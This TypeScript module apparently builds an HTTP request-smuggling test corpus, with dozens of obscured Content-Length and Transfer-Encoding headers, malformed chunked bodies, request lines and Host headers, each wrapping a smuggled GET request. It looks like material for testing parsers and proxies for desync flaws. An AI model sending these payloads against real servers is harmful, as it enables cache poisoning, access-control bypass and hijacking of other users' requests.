/**
 * Requests whose ends two readers could see in different places: each way to obscure a length, an encoding, a chunk or a line,
 * alone and with the others. Behind each stands what an attacker would want the next reader to take for a request.
 */

export interface Attack {
  readonly what: string;
  readonly bytes: string;
}

const EVIL = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n";
/** What a reader by length takes for payload, and a reader by chunks for an end and another request. */
const INNER = `0\r\n\r\n${EVIL}`;
const CHUNKS = "5\r\nhello\r\n0\r\n\r\n";

const post = (fields: readonly string[], body: string, line = "POST /first HTTP/1.1"): string =>
  `${[line, "Host: a", ...fields].join("\r\n")}\r\n\r\n${body}`;

const LENGTHS: readonly ((length: number) => string)[] = [
  (n) => `Content-Length: ${n}`,
  (n) => `content-length:${n}`,
  (n) => `Content-Length: +${n}`,
  (n) => `Content-Length: -${n}`,
  (n) => `Content-Length: 0x${n.toString(16)}`,
  (n) => `Content-Length: ${n}.0`,
  (n) => `Content-Length: ${n}e0`,
  (n) => `Content-Length: ${n};a=b`,
  (n) => `Content-Length: ${n},`,
  (n) => `Content-Length: ${n}, ${n}`,
  (n) => `Content-Length: ${n}, 0`,
  (n) => `Content-Length: 0, ${n}`,
  (n) => `Content-Length: ${n} 0`,
  (n) => `Content-Length: "${n}"`,
  (n) => `Content-Length: ${n}\u0000`,
  (n) => `Content-Length: \u000b${n}`,
  (n) => `Content-Length:\r\n ${n}`,
  (n) => `Content-Length: ${n}\r\nContent-Length: ${n}`,
  (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  (n) => `Content-Length : ${n}`,
  (n) => `Content-Length\t: ${n}`,
  (n) => ` Content-Length: ${n}`,
  (n) => `Content_Length: ${n}`,
  (n) => `Content-Length\u0000: ${n}`,
  (n) => `X: y\nContent-Length: ${n}`,
  (n) => `X: y\rContent-Length: ${n}`,
  (n) => `X: y\r\r\nContent-Length: ${n}`,
  (n) => `X: y\n\r\nContent-Length: ${n}`,
  (n) => `X: y\r\n Content-Length: ${n}`,
  (n) => `Content-Length: ${"0".repeat(40)}${n}`,
  (n) => `Content-Length: ${2n ** 64n + BigInt(n)}`,
  (n) => `Content-Length: ${2n ** 32n + BigInt(n)}`,
  () => `Content-Length:`,
  () => `Content-Length: abc`,
];

const ENCODINGS: readonly string[] = [
  "Transfer-Encoding: chunked",
  "transfer-encoding:CHUNKED",
  "Transfer-Encoding: \tchunked\t ",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, gzip",
  "Transfer-Encoding: chunked;a=b",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  "Transfer-Encoding: chunked\u0000",
  "Transfer-Encoding: \u000bchunked",
  "Transfer-Encoding: \u000cchunked",
  "Transfer-Encoding: \u00a0chunked",
  "Transfer-Encoding: chunk\r\n ed",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\nchunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  "Transfer-Encoding\u0000: chunked",
  " Transfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer\u2010Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\r\nTransfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding:",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
];

/** Bodies in chunks, some of which are none. */
const CHUNKED: readonly (readonly [string, string])[] = [
  ["plain", CHUNKS],
  ["an extension", "5;a=b\r\nhello\r\n0\r\n\r\n"],
  ["a quoted extension with a line end", '5;a="\r\nhello\r\n0\r\n\r\n'],
  ["an extension with a bare LF", "5;a\nhello\r\n0\r\n\r\n"],
  ["an extension with a bare CR", "5;a\rb\r\nhello\r\n0\r\n\r\n"],
  ["a long extension", `5;${"a".repeat(20_000)}\r\nhello\r\n0\r\n\r\n`],
  ["thousands of extensions", "1;a=b\r\nx\r\n".repeat(5_000) + "0\r\n\r\n"],
  ["a size that ends with LF", "5\nhello\r\n0\r\n\r\n"],
  ["a size that ends with CR", "5\rhello\r\n0\r\n\r\n"],
  ["a size with 0x", "0x5\r\nhello\r\n0\r\n\r\n"],
  ["a size with a sign", "+5\r\nhello\r\n0\r\n\r\n"],
  ["a negative size", "-5\r\nhello\r\n0\r\n\r\n"],
  ["a size with a blank before it", " 5\r\nhello\r\n0\r\n\r\n"],
  ["a size with a blank behind it", "5 \r\nhello\r\n0\r\n\r\n"],
  ["a size with an underscore", "0_5\r\nhello\r\n0\r\n\r\n"],
  ["a size with many zeros", `${"0".repeat(60)}5\r\nhello\r\n0\r\n\r\n`],
  ["a size beyond 64 bits", "10000000000000005\r\nhello\r\n0\r\n\r\n"],
  ["a size beyond 32 bits", "100000005\r\nhello\r\n0\r\n\r\n"],
  ["no size", "\r\nhello\r\n0\r\n\r\n"],
  ["a size that is a word", "five\r\nhello\r\n0\r\n\r\n"],
  ["no line end behind the payload", "5\r\nhello0\r\n\r\n"],
  ["LF alone behind the payload", "5\r\nhello\n0\r\n\r\n"],
  ["CR alone behind the payload", "5\r\nhello\r0\r\n\r\n"],
  ["two bytes in place of a line end", "5\r\nhelloXX0\r\n\r\n"],
  ["too much payload", `5\r\nhello world\r\n0\r\n\r\n`],
  ["LF alone at the end", "5\r\nhello\r\n0\n\n"],
  ["LF alone in the last line", "5\r\nhello\r\n0\r\n\n"],
  ["a last chunk of many zeros", "5\r\nhello\r\n0000\r\n\r\n"],
  ["a trailer", "5\r\nhello\r\n0\r\nX-Sum: 1\r\n\r\n"],
  ["a trailer with a length", "5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n"],
  ["a trailer with an encoding", "5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n"],
  ["a trailer that ends with LF", "5\r\nhello\r\n0\r\nX: y\n\r\n"],
  ["a trailer that is folded", "5\r\nhello\r\n0\r\nX: y\r\n z\r\n\r\n"],
  ["a trailer that is a request", `5\r\nhello\r\n0\r\n${EVIL}`],
  ["NUL in a size", "5\u0000\r\nhello\r\n0\r\n\r\n"],
];

const LINES: readonly string[] = [
  "POST /first HTTP/1.1",
  "POST /first HTTP/1.0",
  "POST  /first HTTP/1.1",
  "POST /first  HTTP/1.1",
  "POST\t/first HTTP/1.1",
  "POST /first\tHTTP/1.1",
  " POST /first HTTP/1.1",
  "POST /first HTTP/1.1 ",
  "POST /first HTTP/1.1\t",
  "POST /first http/1.1",
  "POST /first HTTP/1.10",
  "POST /first HTTP/1.2",
  "POST /first HTTP/2.0",
  "POST /first HTTP/0.9",
  "POST /first HTTP/ 1.1",
  "POST /first HTTP /1.1",
  "POST /first",
  "POST /fi\u0000rst HTTP/1.1",
  "POST /first\u000b HTTP/1.1",
  "POST /first a HTTP/1.1",
  "POST http://a/first HTTP/1.1",
  "\r\nPOST /first HTTP/1.1",
  "\nPOST /first HTTP/1.1",
  "\rPOST /first HTTP/1.1",
  "POST /first HTTP/1.1\nX: y",
  "POST /first HTTP/1.1\rX: y",
  "GET /first HTTP/1.1",
  "HEAD /first HTTP/1.1",
  "PO\u0000ST /first HTTP/1.1",
];

const HOSTS: readonly string[] = [
  "Host: a\r\nHost: b",
  "Host: a, b",
  "Host : a",
  "Host: a\u0000",
  "Host:\r\n a",
  "Ho st: a",
];

export function obscureLengths(length: number): string[] {
  return LENGTHS.map((field) => field(length));
}

export function obscureEncodings(): readonly string[] {
  return ENCODINGS;
}

/** All of them, each followed by a request that is sound and asks for the end. */
export function attacks(): Attack[] {
  const made: Attack[] = [];
  const add = (what: string, bytes: string): void => {
    made.push({ what, bytes: `${bytes}GET /behind HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n` });
  };
  for (const length of LENGTHS) {
    const shown = JSON.stringify(length(9));
    add(`${shown}, the body as long as it says`, post([length(INNER.length)], INNER));
    add(`${shown}, and a body of nothing`, post([length(0)], EVIL));
    add(
      `${shown}, with chunks that end earlier`,
      post([length(INNER.length), "Transfer-Encoding: chunked"], INNER),
    );
    add(`${shown}, behind chunks that end later`, post(["Transfer-Encoding: chunked", length(5)], CHUNKS));
    add(`${shown}, on a GET`, post([length(EVIL.length)], EVIL, "GET /first HTTP/1.1"));
  }
  for (const encoding of ENCODINGS) {
    const shown = JSON.stringify(encoding);
    add(`${shown} and chunks`, post([encoding], CHUNKS));
    add(`${shown} and what chunks would end`, post([encoding], INNER));
    add(`${shown} behind a length`, post([`Content-Length: ${INNER.length}`, encoding], INNER));
    add(`${shown} before a length`, post([encoding, "Content-Length: 5"], CHUNKS));
    add(`${shown} of HTTP/1.0`, post([encoding], CHUNKS, "POST /first HTTP/1.0"));
    add(
      `${shown} that one is told to drop`,
      post([encoding, "Connection: Transfer-Encoding, keep-alive"], CHUNKS),
    );
  }
  for (const [what, body] of CHUNKED) {
    add(`chunks: ${what}`, post(["Transfer-Encoding: chunked"], body));
    add(`chunks: ${what}, and a request`, post(["Transfer-Encoding: chunked"], body + EVIL));
    add(`chunks: ${what}, and a length`, post(["Content-Length: 5", "Transfer-Encoding: chunked"], body));
  }
  for (const line of LINES) {
    add(`line: ${JSON.stringify(line)}`, post(["Content-Length: 5"], "hello", line));
    add(`line: ${JSON.stringify(line)}, no body`, post([], "", line));
    add(`line: ${JSON.stringify(line)}, chunks`, post(["Transfer-Encoding: chunked"], CHUNKS, line));
  }
  for (const host of HOSTS)
    add(`host: ${JSON.stringify(host)}`, `POST /first HTTP/1.1\r\n${host}\r\nContent-Length: 5\r\n\r\nhello`);
  for (const end of ["\n\n", "\r\n\n", "\n\r\n", "\r\r", "\r\n\r", "\r\n \r\n", "\r\n\t\r\n\r\n"])
    add(`a head that ends with ${JSON.stringify(end)}`, `GET /first HTTP/1.1\r\nHost: a${end}`);
  return made;
}
